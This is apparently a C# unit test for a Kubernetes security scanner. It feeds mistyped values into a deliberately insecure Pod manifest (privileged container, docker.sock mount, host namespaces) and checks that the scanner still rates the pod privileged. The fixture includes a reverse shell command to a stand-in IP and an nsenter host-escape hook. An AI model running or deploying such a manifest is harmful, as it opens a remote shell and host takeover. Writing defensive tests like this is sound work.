using System.Text;
using Gabion.Model;
using Gabion.Model.Cluster;
using Gabion.Policy.PodSecurity;
using Gabion.Rules.Cluster.Deploy;
using Gabion.Scan;

namespace Gabion.Tests.Rules.Cluster;

/// <summary>Pods whose values have every wrong type: nothing may throw, and nothing may be taken for safe.</summary>
public sealed class OddPodsTests
{
    private const string Full = """
        apiVersion: v1
        kind: Pod
        metadata:
          name: p
          annotations:
            container.apparmor.security.beta.kubernetes.io/a: unconfined
            seccomp.security.alpha.kubernetes.io/pod: unconfined
        spec:
          hostNetwork: true
          hostPID: true
          hostUsers: true
          os:
            name: linux
          serviceAccountName: s
          shareProcessNamespace: true
          hostAliases:
            - hostnames: [h]
          securityContext:
            runAsNonRoot: false
            runAsUser: 0
            fsGroup: 0
            supplementalGroups: [0]
            seccompProfile:
              type: Unconfined
            appArmorProfile:
              type: Unconfined
            seLinuxOptions:
              type: spc_t
            sysctls:
              - name: kernel.msgmax
            windowsOptions:
              hostProcess: true
          volumes:
            - name: v
              hostPath:
                path: /var/run/docker.sock
            - name: e
              emptyDir:
                medium: Memory
          containers:
            - name: a
              image: grafana/grafana:9.2.2
              command: [bash, -c, "bash -i >& /dev/tcp/1.2.3.4/5 0>&1"]
              args: [--password=abcdefgh]
              env:
                - name: DB_PASSWORD
                  value: abcdefgh
              envFrom:
                - secretRef:
                    name: s
              ports:
                - containerPort: 22
                  hostPort: 22
              volumeMounts:
                - name: v
                  mountPropagation: Bidirectional
              lifecycle:
                postStart:
                  exec:
                    command: [nsenter, -t, "1"]
              livenessProbe:
                httpGet:
                  host: h
              securityContext:
                privileged: true
                allowPrivilegeEscalation: true
                procMount: Unmasked
                capabilities:
                  add: [SYS_ADMIN]
                  drop: [MKNOD]
        """;

    public static TheoryData<string> Odd => ["null", "''", "x", "3", "-1", "true", "[]", "{}", "[[1]]", "[{a: 1}]", "{a: [1]}", "'{{ x }}'", "99999999999999999999", "!!binary aGVsbG8="];

    [Theory]
    [MemberData(nameof(Odd))]
    public void Every_value_may_have_any_type(string odd)
    {
        var rules = new RuleRunner(SecurityRules.Create(RuleSettings.Default));
        var lines = Full.Split('\n');
        var judged = 0;
        for (var i = 0; i < lines.Length; i++)
        {
            var colon = lines[i].IndexOf(": ", StringComparison.Ordinal);
            var end = colon < 0 && lines[i].EndsWith(':') ? lines[i].Length - 1 : colon;
            if (end < 0)
            {
                continue;
            }

            // The value, with what stands indented below it, becomes the odd one.
            var indent = lines[i].Length - lines[i].TrimStart(' ', '-').Length;
            var rest = lines.Skip(i + 1).SkipWhile(line => Indent(line) > indent || (Indent(line) == indent && line.TrimStart().StartsWith('-')));
            var text = string.Join('\n', [.. lines.Take(i), $"{lines[i][..end]}: {odd}", .. rest]);
            foreach (var fact in ExampleFacts.Read("pod.yaml", Encoding.UTF8.GetBytes(text)))
            {
                rules.Check(fact);
                if (fact is Workload workload)
                {
                    judged++;
                    var level = workload.Pod.Containers.IsEmpty ? PodSecurityLevel.Privileged : PodSecurityStandards.Strictest(workload.Pod, PodSecurityVersion.Latest);
                    Assert.True(level == PodSecurityLevel.Privileged, $"{level}:\n{text}");
                }
            }
        }

        Assert.InRange(judged, 40, lines.Length);
    }

    private static int Indent(string line) => line.Length - line.TrimStart().Length;
}
